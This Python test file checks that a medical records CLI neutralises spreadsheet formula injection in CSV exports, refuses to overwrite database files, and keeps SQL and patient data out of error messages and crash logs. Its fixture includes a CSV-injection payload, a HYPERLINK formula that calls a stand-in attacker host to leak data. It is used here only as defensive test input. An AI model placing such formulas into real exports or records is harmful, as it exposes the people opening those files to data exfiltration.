"""Exports that cannot destroy or smuggle, and errors that never leak, on both databases."""

from __future__ import annotations

import csv
import io
import sqlite3
import stat
from pathlib import Path

import pytest
from sqlalchemy import text

from recordsdesk.cli import main as cli_main
from recordsdesk.cli import records as cli_records
from recordsdesk.cli.context import CommandContext
from recordsdesk.domain.errors import InvalidInput
from recordsdesk.domain.spreadsheet import neutralise_cell
from recordsdesk.services.actors import Actor
from recordsdesk.services.desk import Services
from recordsdesk.storage.unit_of_work import translate_database_error
from tests.security.helpers import run

FEED_HEADER = "appointment_id,mrn,family_name,given_name,dob,start,clinic,provider,status\n"
EVIL = '=HYPERLINK("http://evil.example/?leak=1")'


def _url(services: Services) -> str:
    return services.db.engine.url.render_as_string(hide_password=False)


@pytest.fixture
def night(file_room: Services, admin: Actor, tmp_path: Path) -> Path:
    """Tomorrow's appointments, one for a patient whose name is a spreadsheet formula."""
    file_room.registry.register_patient(admin, "777001", f"{EVIL}, Ann", None, volumes=1)
    feed = tmp_path / "feed.csv"
    lines = io.StringIO()
    writer = csv.writer(lines)
    writer.writerow(FEED_HEADER.strip().split(","))
    writer.writerow(["A1", "123456", "+SMITH", "John", "", "2026-03-03 09:00", "CARD", "", ""])
    writer.writerow(["A2", "777001", EVIL, "Ann", "", "2026-03-03 10:00", "CARD", "", ""])
    feed.write_text(lines.getvalue())
    done = run(_url(file_room), "schedule", "import", str(feed))
    assert done.returncode == 0, done.stderr
    return feed


def test_formula_cells_are_neutralised_in_the_pull_list_csv(
    file_room: Services, night: Path, tmp_path: Path
) -> None:
    out = tmp_path / "pull.csv"
    done = run(
        _url(file_room), "pull-list", "--date", "2026-03-03", "--format", "csv", "-o", str(out)
    )
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert any(EVIL.upper() in cell.upper() for cell in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert any(c.startswith("'+SMITH") for c in cells)


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@x", "\tx", "\rx"])
def test_owasp_formula_starts(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell
    assert neutralise_cell("SMITH, John") == "SMITH, John"
    assert neutralise_cell(42) == 42


def test_output_cannot_replace_the_database_or_its_files(sqlite_url: str, tmp_path: Path) -> None:
    from tests.clirun import add_first_admin

    add_first_admin(sqlite_url)
    live = Path(sqlite_url.removeprefix("sqlite:///"))
    before = live.read_bytes()[:100]
    other = tmp_path / "other.db"
    sqlite3.connect(other).execute("CREATE TABLE t (x)").connection.close()
    existing = tmp_path / "kept.csv"
    existing.write_text("keep me")
    for target, says in (
        (live, "is a database"),
        (Path(f"{live}-wal"), "belongs to the database"),
        (Path(f"{live}-shm"), "belongs to the database"),
        (other, "is a database"),
        (existing, "exists already"),
    ):
        done = run(
            sqlite_url, "pull-list", "--date", "2026-03-03", "--format", "csv", "-o", str(target)
        )
        assert done.returncode == 1 and says in done.stderr, (target, done.stderr)
        assert "Traceback" not in done.stderr
    assert live.read_bytes()[:100] == before
    assert existing.read_text() == "keep me"
    forced = run(
        sqlite_url,
        "pull-list",
        "--date",
        "2026-03-03",
        "--format",
        "csv",
        "-o",
        str(existing),
        "--force",
    )
    assert forced.returncode == 0, forced.stderr
    assert existing.read_text().startswith("kind,")
    assert run(sqlite_url, "audit", "verify").returncode == 0


def test_a_feed_message_the_database_cannot_hold_is_named_and_skipped(
    file_room: Services, tmp_path: Path
) -> None:
    first = tmp_path / "a.csv"
    first.write_text(
        FEED_HEADER
        + "A1,123456,SMITH,John,,2026-03-03 09:00,CARD,Dr Who,Booked\n"
        + f"{'X' * 120},423266,JONES,Mary,,2026-03-03 10:00,CARD,Dr Who,Booked\n"
        + "A3,423266,JONES,Ma\x00ry,,2026-03-03 11:00,CARD,Dr Who,Booked\n"
        + "A4,423266,JONES,Mary,,2026-03-03 12:00,CARD,Dr Who,Booked\n"
    )
    second = tmp_path / "b.csv"
    second.write_text(FEED_HEADER + "B1,000042,X,Y,,2026-03-03 13:00,ORTH,Dr No,Booked\n")
    done = run(_url(file_room), "schedule", "import", str(first), str(second))
    assert done.returncode == 1
    # A 120-character appointment id is kept, shortened with its digest so that it stays
    # unique; the NUL the database cannot hold is named with its line and refused alone.
    assert "line 3" not in done.stdout
    assert "line 4: The given name of an appointment holds a NUL character." in done.stdout
    for leak in ("INSERT", "SELECT", "JONES", "psycopg", "Traceback"):
        assert leak not in done.stderr
    with file_room.db.reading() as uow:
        imported = set(uow.session.execute(text("SELECT external_id FROM appointments")).scalars())
    assert {"A1", "A4", "B1"} < imported and len(imported) == 4
    (long_id,) = imported - {"A1", "A4", "B1"}
    assert long_id.startswith("XXXX") and len(long_id) <= 80


def test_names_too_long_are_refused_alike(file_room: Services, admin: Actor) -> None:
    with pytest.raises(InvalidInput, match="family name of a patient is too long"):
        file_room.registry.register_patient(admin, "555555", f"{'L' * 100}, Ann", None)
    with pytest.raises(InvalidInput, match="NUL"):
        file_room.registry.register_patient(admin, "555556", "NUL\x00NAME, Ann", None)
    assert file_room.audit.verify().ok


def test_database_errors_become_one_line_without_sql(services: Services) -> None:
    from sqlalchemy.exc import DBAPIError

    statement = (
        "SELECT CAST('SMITH-1970-05-01' AS integer)"
        if services.db.engine.dialect.name == "postgresql"
        else "SELECT * FROM no_such_table WHERE name = 'SMITH'"
    )
    with services.db.engine.connect() as conn, pytest.raises(DBAPIError) as caught:
        conn.execute(text(statement))
    translated = translate_database_error(caught.value)
    assert translated is not None
    message = str(translated)
    assert "\n" not in message and "SELECT" not in message and "SMITH" not in message


def test_a_foreign_sqlite_file_or_a_non_database_is_refused(tmp_path: Path) -> None:
    foreign = tmp_path / "accounts.db"
    with sqlite3.connect(foreign) as conn:
        conn.execute("CREATE TABLE ledger (x)")
    junk = tmp_path / "notes.txt"
    junk.write_text("not a database\n" * 50)
    for path, says in ((foreign, "another application's database"), (junk, "not a database file")):
        done = run(f"sqlite:///{path}", "location", "list")
        assert done.returncode == 1 and says in done.stderr, done.stderr
        assert len(done.stderr.strip().splitlines()) == 1
    with sqlite3.connect(foreign) as conn:
        names = [row[0] for row in conn.execute("SELECT name FROM sqlite_master")]
    assert names == ["ledger"]
    assert junk.read_text() == "not a database\n" * 50


def test_the_crash_log_is_private_and_holds_no_patient_data(
    sqlite_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))

    def boom(_ctx: CommandContext) -> int:
        raise RuntimeError("INSERT INTO patients VALUES ('SMITH, John', '1970-05-01', '123456')")

    monkeypatch.setattr(cli_records, "db_upgrade", boom)
    assert cli_main.main(["--db", sqlite_url, "db", "upgrade"]) == 3
    error = capsys.readouterr().err
    assert "SMITH" not in error and "INSERT" not in error and "RuntimeError" in error
    logs = list((tmp_path / "state").rglob("crash-*.log"))
    assert len(logs) == 1 and str(logs[0]) in error
    assert stat.S_IMODE(logs[0].stat().st_mode) == 0o600
    assert stat.S_IMODE(logs[0].parent.stat().st_mode) == 0o700
    content = logs[0].read_text()
    assert "RuntimeError" in content and "boom" in content
    assert "SMITH" not in content and "123456" not in content


def test_a_password_in_the_url_is_warned_about(sqlite_url: str) -> None:
    done = run(sqlite_url, "--db", "postgresql://desk:s3cret@127.0.0.1:1/none", "location", "list")
    assert done.returncode == 1
    assert "visible to every user" in done.stderr and "s3cret" not in done.stderr
